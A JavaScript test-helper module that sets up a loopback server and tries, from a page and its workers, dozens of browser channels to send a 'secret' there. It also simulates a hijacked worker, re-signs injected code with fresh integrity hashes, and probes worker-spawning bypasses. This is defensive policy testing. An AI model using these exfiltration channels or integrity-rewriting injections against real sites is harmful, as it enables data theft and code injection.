// A server on the loopback interface that the page must never reach, and every way in which a page or worker could try.

import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';

/**
 * @returns {Promise<{url: string, heard: string[], close: () => Promise<void>}>}  `heard`: the path of every request that arrived, and
 *   "/webrtc?" for each datagram
 */
export async function stranger() {
  const heard = [];
  const answer = (request, response) => {
    heard.push(request.url);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    response.end();
  };
  const server = createServer(answer).on('upgrade', (request, socket) => {
    heard.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve, reject) => server.once('error', reject).listen(0, '127.0.0.1', resolve));
  const datagrams = createSocket('udp4').on('message', () => heard.push('/webrtc?'));
  await new Promise((resolve, reject) => datagrams.once('error', reject).bind(server.address().port, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    heard,
    close: () => new Promise((resolve) => {
      datagrams.close();
      server.close(resolve);
      server.closeAllConnections();
    }),
  };
}

/** Tries every way to reach a server from a page or a worker. Runs in the browser and sees only its globals. */
export async function tryToReach(url, from) {
  const at = (way) => `${url}/${from}/${way}?secret=1`;
  const socket = (way) => at(way).replace('http:', 'ws:');
  const ways = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    keepalive: () => fetch(at('keepalive'), { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', at('xhr'));
      request.send('secret');
    },
    websocket: () => new WebSocket(socket('websocket')),
    'event-source': () => new EventSource(at('event-source')),
    import: () => import(at('import')),
    'import-scripts': () => importScripts(at('import-scripts')),
    worker: () => new Worker(at('worker'), { type: 'module' }),
    'shared-worker': () => new SharedWorker(at('shared-worker')),
    'blob-worker': () => {
      const script = `import ${JSON.stringify(at('blob-worker'))}`;
      return new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })), { type: 'module' });
    },
    cache: async () => (await caches.open('probe')).add(at('cache')),
    'web-transport': () => new WebTransport(at('web-transport').replace('http:', 'https:')).ready,
    'socket-stream': () => new WebSocketStream(socket('socket-stream')).opened,
    font: () => new FontFace('probe', `url(${at('font')})`).load(),
  };
  if (globalThis.document) {
    const put = (name, attributes, parent = document.body) => parent.append(Object.assign(document.createElement(name), attributes));
    const link = (rel, more) => put('link', { rel, href: at(rel), ...more }, document.head);
    Object.assign(ways, {
      beacon: () => navigator.sendBeacon(at('beacon'), 'secret'),
      script: () => put('script', { src: at('script') }),
      'inline-script': () => put('script', { text: `fetch(${JSON.stringify(at('inline-script'))}, { mode: 'no-cors' })` }),
      handler: () => put('img', { alt: '', src: 'data:image/png;base64,!', onerror: `fetch("${at('handler')}", { mode: "no-cors" })` }),
      eval: () => (0, eval)(`fetch(${JSON.stringify(at('eval'))}, { mode: 'no-cors' })`),
      markup: () => { document.body.insertAdjacentHTML('beforeend', `<img src="${at('markup')}">`); },
      image: () => put('img', { alt: '', src: at('image') }),
      picture: () => put('img', { alt: '', srcset: `${at('picture')} 2x` }),
      css: () => { document.body.style.backgroundImage = `url(${at('css')})`; },
      'css-import': () => put('style', { textContent: `@import url(${at('css-import')});` }, document.head),
      video: () => put('video', { src: at('video'), preload: 'auto' }),
      audio: () => put('audio', { src: at('audio'), preload: 'auto' }),
      frame: () => put('iframe', { src: at('frame') }),
      object: () => put('object', { data: at('object') }),
      embed: () => put('embed', { src: at('embed') }),
      stylesheet: () => link('stylesheet'),
      prefetch: () => link('prefetch'),
      preload: () => link('preload', { as: 'image' }),
      modulepreload: () => link('modulepreload'),
      manifest: () => link('manifest'),
      prerender: () => link('prerender'),
      speculation: () => put('script', {
        type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at('speculation')] }] }),
      }),
      'svg-image': () => {
        const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        image.setAttribute('href', at('svg-image'));
        document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
        document.querySelector('body > svg:last-of-type').append(image);
      },
      'svg-use': () => {
        const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
        use.setAttribute('href', at('svg-use'));
        document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
        document.querySelector('body > svg:last-of-type').append(use);
      },
      'input-image': () => put('input', { type: 'image', src: at('input-image') }),
      poster: () => put('video', { poster: at('poster') }),
      track: () => {
        put('video', { src: 'data:video/mp4;base64,AAAA', id: 'probe-video' });
        put('track', { src: at('track'), default: true, kind: 'captions' }, document.querySelector('#probe-video'));
      },
      'css-cursor': () => { document.body.style.cursor = `url(${at('css-cursor')}), auto`; },
      'css-mask': () => { document.body.style.maskImage = `url(${at('css-mask')})`; },
      'sheet-rule': () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body::after { content: url(${at('sheet-rule')}); }`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      },
      refresh: () => put('meta', { httpEquiv: 'refresh', content: `3600;url=${at('refresh')}` }, document.head),
      'frame-document': () => put('iframe', { srcdoc: `<img src="${at('frame-document')}">` }),
      'frame-script': () => {
        put('iframe', { id: 'probe-frame' });
        return document.querySelector('#probe-frame').contentWindow.fetch(at('frame-script'), { mode: 'no-cors' });
      },
      'service-worker': () => navigator.serviceWorker.register(at('service-worker')),
      icon: () => link('icon'),
      base: () => {
        put('base', { href: at('base') }, document.head);
        put('img', { alt: '', src: 'relative.png' });
      },
      form: () => {
        put('iframe', { name: 'probe' });
        const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: 'probe' });
        document.body.append(form);
        form.submit();
      },
      ping: () => {
        const anchor = Object.assign(document.createElement('a'), { href: '#probe', ping: at('ping') });
        document.body.append(anchor);
        anchor.click();
      },
    });
  }
  await Promise.all(Object.values(ways).map(async (way) => {
    try {
      await Promise.race([way(), new Promise((resolve) => { setTimeout(resolve, 1000); })]);
    } catch { /* What is refused is what is wanted. */ }
  }));
  await new Promise((resolve) => { setTimeout(resolve, 700); });
}

/**
 * Tries the ways that no policy of a page stops: to go to another page, to open one, and WebRTC's datagrams. Runs in the browser. The
 * last one leaves the page.
 */
export async function tryToLeave(url) {
  const at = (way) => `${url}/leave/${way}?secret=1`;
  const pause = (ms) => new Promise((resolve) => { setTimeout(resolve, ms); });
  const ways = [
    () => window.open(at('window-open')),
    () => Object.assign(document.createElement('a'), { href: at('anchor'), target: '_blank', rel: 'noopener' }).click(),
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
      peer.createDataChannel('probe');
      await peer.setLocalDescription(await peer.createOffer());
      await pause(1000);
      peer.close();
    },
  ];
  for (const way of ways) await Promise.resolve().then(way).catch(() => {});
  await pause(500);
  location.assign(at('navigate'));
}

const integrity = (text) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

/**
 * Makes a page whose workers try to reach a server when they start, and report on the channel "tried".
 *
 * @param {{page: string, worker: string}} built  index.html and the worker's script as they were built
 * @returns {Record<string, string>}  contents in place of files, by name
 */
export function withProbes({ page, worker }, url) {
  const name = page.match(/<meta name="worker" content="([^"]+)"/)[1];
  const probed = `${worker}
;(${tryToReach})(${JSON.stringify(url)}, self.name === 'helper' ? 'helper' : 'data-worker')
  .then(() => new BroadcastChannel('tried').postMessage(self.name || 'data-worker'));\n`;
  return { 'index.html': page.replace(/(<meta name="worker"[^>]* data-integrity=")[^"]+/, `$1${integrity(probed)}`), [name]: probed };
}

/** The same for the unpacking worker, which then tries to start the worker that fetches, as code that has taken it over could. */
export function withTakenUnpacker({ page, unpacker }, url) {
  const name = page.match(/<meta name="unpack-worker" content="([^"]+)"/)[1];
  const fetcher = page.match(/<meta name="fetch-worker" content="([^"]+)"/)[1];
  const probe = `
;(${tryToEscape})(${JSON.stringify(url)}, ${JSON.stringify(fetcher)}).then((ways) => new BroadcastChannel('escaped').postMessage(ways));\n`;
  const probed = `${unpacker}${probe}`;
  return { 'index.html': page.replace(/(<meta name="unpack-worker"[^>]* data-integrity=")[^"]+/, `$1${integrity(probed)}`), [name]: probed };
}

/** Tries to start workers that the policy does not bind. Runs in a worker. Resolves to the ways that the browser allowed. */
export async function tryToEscape(url, fetcher) {
  const address = new URL(fetcher, self.origin).href;
  const blob = () => URL.createObjectURL(new Blob([`fetch(${JSON.stringify(`${url}/escaped/blob?`)}, { mode: 'no-cors' })`], { type: 'text/javascript' }));
  const allowed = [];
  const ways = {
    policy: () => {
      const policy = self.trustedTypes.createPolicy('own-scripts', { createScriptURL: (any) => any });
      return new Worker(policy.createScriptURL(address), { type: 'module' });
    },
    'plain-address': () => new Worker(address, { type: 'module' }),
    'blob-worker': () => new Worker(blob(), { type: 'module' }),
    'constructor-of-worker': () => new self.Worker.prototype.constructor(address, { type: 'module' }),
    'shared-worker': () => new SharedWorker(address),
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      const started = way();
      await new Promise((resolve) => { setTimeout(resolve, 200); });
      if (started instanceof EventTarget) allowed.push(name);
    } catch { /* What is refused is what is wanted. */ }
  }
  return allowed;
}
